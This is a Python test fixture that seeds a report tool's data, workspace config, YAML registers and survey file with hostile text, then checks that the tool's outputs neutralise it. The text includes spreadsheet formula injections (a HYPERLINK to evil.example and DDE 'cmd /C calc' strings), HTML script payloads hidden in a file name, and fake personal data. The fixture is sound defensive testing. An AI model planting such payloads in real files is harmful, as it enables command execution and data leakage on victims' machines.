"""A hostile organisation, built once a session: the report and every command that writes, on data hostile everywhere.

The planted demo (tests/_planted.py) appends a payload to the records' free text and the workspace's names; this
goes further (twenty-eighth audit).  Every text that can reach an output *starts* with a spreadsheet formula in one of
the forms :data:`windoweval.cells.FORMULA` names (``=HYPERLINK``, ``+``, ``-``, ``@``, a tab, full-width ``＝``, a
zero-width space first, ...) and then carries an HTML/script payload of :func:`_planted.payloads`, a bidi control and
a form of personal data of :data:`_planted.PII`:

* every free-text column of the records (:data:`_planted.TEXT_FIELDS`);
* the workspace: the organisation's names, every window's name, English name and region;
* the organisation's own promise register (``promises = "promises.yaml"``): every promise's three texts;
* the organisation's own survey instrument (a YAML path): its titles, every dimension's and item's labels; the
  delivery's comments, a column of window names the firm added, and the delivery's file name (a formula, markup, a
  phone number and a name).

Then ``windoweval report --pdf --log`` (the PDF where Chromium is installed) and ``score``, ``complaints``,
``promises``, ``review`` and ``records check`` run on it; :func:`hostile` returns every output file and everything
printed, for tests/test_audit28_hostile.py to check.
"""
from __future__ import annotations

import atexit
import functools
import io
import json
import re
import shutil
import tempfile
from contextlib import redirect_stderr, redirect_stdout
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd

from _planted import BIDI, MARK, PII, TEXT_FIELDS, payloads

#: Spreadsheet formulas in the forms a careless or hostile clerk writes them, each the start of a planted text.
#: ``INJECTED`` is what every one holds, so that a test can find it (neutralised) in the outputs.
INJECTED = "WEVCALC"
INJECTIONS = [
    f'=HYPERLINK("http://evil.example/?{INJECTED}","点击")',
    f"+{INJECTED}(1)+1",
    f"-2+3+cmd|' /C calc'!{INJECTED}",
    f"@SUM(1+1)*cmd|' /C calc'!{INJECTED}",
    f"\t={INJECTED}(1)",
    f"＝{INJECTED}(1)",
    f"﹦{INJECTED}(1)",
    f"\u200b={INJECTED}(1)",
    f"\u3000+{INJECTED}(1)",
    f"－{INJECTED}(1)",
]


def hostile_text(i: int, pay: dict[str, str]) -> str:
    """The ``i``-th hostile text: a formula first, a bidi control, a payload, a form of personal data."""
    pk, ik = list(pay), list(PII)
    return (f"{INJECTIONS[i % len(INJECTIONS)]}{BIDI[i % len(BIDI)]} {pay[pk[i % len(pk)]]} ；"
            f"{PII[ik[i % len(ik)]][0]}；")


@dataclass
class Hostile:
    root: Path
    data: Path
    report: Path
    log: Path
    code: int
    pdf: bool
    planted: dict = field(default_factory=dict)     # where -> how many texts planted
    printed: dict = field(default_factory=dict)     # command -> what it printed (stdout + stderr)
    codes: dict = field(default_factory=dict)       # command -> exit code

    def files(self) -> list[Path]:
        """Every file the commands wrote (the report, the commands' outputs, the log)."""
        return sorted(f for d in (self.report.parent, self.root / "cli") for f in d.rglob("*") if f.is_file()) + \
            [self.log]


#: The free-text columns planted, by kind: the planted demo's, and the complaints export's own Chinese headers (its
#: mapping reads them: 诉求内容 is the description, 业务类别 the category), which the planted demo's names miss.
FIELDS = {**TEXT_FIELDS, "complaints": ["诉求内容", "业务类别"]}


def _plant_records(data: Path, pay: dict, planted: dict) -> None:
    i = 0
    for kind, cols in FIELDS.items():
        f = data / f"{kind}.csv"
        if not f.exists():
            continue
        df = pd.read_csv(f, dtype=str, keep_default_na=False)
        for c in cols:
            if c not in df:
                continue
            df[c] = [hostile_text(i + j, pay) + v for j, v in enumerate(df[c])]
            i += len(df)
            planted[f"{kind}.{c}"] = len(df)
        df.to_csv(f, index=False, encoding="utf-8")


def _toml_string(s: str) -> str:
    return json.dumps(s, ensure_ascii=True)       # a TOML basic string escapes as JSON does (\\t, \\u202e ...)


def _plant_workspace(data: Path, pay: dict, planted: dict) -> None:
    ws = data / "windoweval.toml"
    out, i = [], 0
    for line in ws.read_text(encoding="utf-8").splitlines():
        m = re.match(r'^(name|name_en|region) = "(.*)"$', line)
        if m:
            line = f"{m.group(1)} = {_toml_string(hostile_text(i, pay) + m.group(2))}"
            i += 1
        out.append(line)
    out.insert(1, 'promises = "promises.yaml"')
    ws.write_text("\n".join(out) + "\n", encoding="utf-8")
    planted["workspace"] = i


def _plant_yaml_texts(text: str, keys: set, pay: dict, start: int, skip: set = frozenset()) -> tuple[str, int]:
    """``text`` (YAML) with every string under one of ``keys`` given a hostile text first, anywhere but under a
    top-level key of ``skip`` (the scale's labels, which a delivery's labels are read by)."""
    import yaml

    doc = yaml.safe_load(text)
    n = [start]

    def walk(o):
        if isinstance(o, dict):
            for k, v in o.items():
                if k in keys and isinstance(v, str):
                    o[k] = hostile_text(n[0], pay) + v
                    n[0] += 1
                else:
                    walk(v)
        elif isinstance(o, list):
            for v in o:
                walk(v)

    walk({k: v for k, v in doc.items() if k not in skip})
    return yaml.safe_dump(doc, allow_unicode=False, sort_keys=False), n[0] - start


def _plant_promises(data: Path, pay: dict, planted: dict) -> None:
    from windoweval import paths

    src = (Path(paths.__file__).parent / "promises.yaml").read_text(encoding="utf-8")
    text, n = _plant_yaml_texts(src, {"zh", "public_zh", "public_en", "en"}, pay, 0)
    (data / "promises.yaml").write_text(text, encoding="utf-8")
    planted["promises.yaml"] = n


def _plant_survey(root: Path, data: Path, pay: dict, planted: dict) -> tuple[dict, dict]:
    from windoweval.cli import main
    from windoweval.demo.survey import generate_delivery
    from windoweval.records.workspace import load_workspace

    src = (Path(__file__).parents[1] / "surveys" / "instruments" / "power_hall.yaml").read_text(encoding="utf-8")
    text, n = _plant_yaml_texts(src, {"zh", "en", "title_zh", "title_en"}, pay, 0, skip={"scale", "missing_codes"})
    ins = root / "instrument" / "power_hall.yaml"
    ins.parent.mkdir()
    ins.write_text(text, encoding="utf-8")
    planted["instrument"] = n
    w = load_workspace(data).windows
    halls = sorted(w.loc[w["kind"].astype(str).eq("power_hall").to_numpy(), "window_id"].astype(str))
    df = generate_delivery("power_hall", 2025, halls, n_per_window=30)
    df["comment"] = [hostile_text(i, pay) + (c if isinstance(c, str) else "") for i, c in enumerate(df["comment"])]
    df["网点名称"] = [hostile_text(i + 3, pay) for i in range(len(df))]
    planted["delivery"] = 2 * len(df)
    f = root / "incoming" / '=HYPERLINK("x")<img src=x onerror=alert(1)>_联系人张三_13812345678.csv'
    f.parent.mkdir()
    df.to_csv(f, index=False, encoding="utf-8")
    printed, codes = {}, {}
    for name, cmd in (("survey check", ["survey", "check", str(f), "--instrument", str(ins)]),
                      ("survey import", ["survey", "import", str(f), "--instrument", str(ins), "--year", "2025",
                                         "--store", str(data)])):
        codes[name], printed[name] = _run(main, cmd)
    return printed, codes


def _run(main, cmd) -> tuple[int, str]:
    so, se = io.StringIO(), io.StringIO()
    with redirect_stdout(so), redirect_stderr(se):
        rc = main(cmd)
    return rc, so.getvalue() + se.getvalue()


@functools.lru_cache(maxsize=None)
def hostile() -> Hostile:
    from windoweval.browser import find_chromium
    from windoweval.cli import main
    from windoweval.demo import generate

    root = Path(tempfile.mkdtemp(prefix="windoweval-hostile-"))
    atexit.register(shutil.rmtree, root, True)
    probe = root / "outside" / "probe.html"
    probe.parent.mkdir()
    probe.write_text(f"<html><body><script>console.log('{MARK}-FILE-READ')</script></body></html>", encoding="utf-8")
    pay = payloads(str(probe))
    data = generate(root / "data", year=2025)
    planted: dict = {}
    _plant_records(data, pay, planted)
    _plant_workspace(data, pay, planted)
    _plant_promises(data, pay, planted)
    printed, codes = _plant_survey(root, data, pay, planted)
    out, log = root / "reports", root / "logs" / "report.log"
    pdf = find_chromium() is not None
    codes["report"], printed["report"] = _run(main, ["report", "--year", "2025", "--data", str(data), "--out", str(out),
                                                     "--log", str(log), *(["--pdf"] if pdf else [])])
    for sub in ("score", "complaints", "promises", "review"):
        codes[sub], printed[sub] = _run(main, [sub, "--year", "2025", "--data", str(data), "--out",
                                               str(root / "cli" / sub)])
    codes["records check"], printed["records check"] = _run(main, ["records", "check", "--data", str(data)])
    return Hostile(root, data, out / "2025", log, codes["report"], pdf, planted, printed, codes)
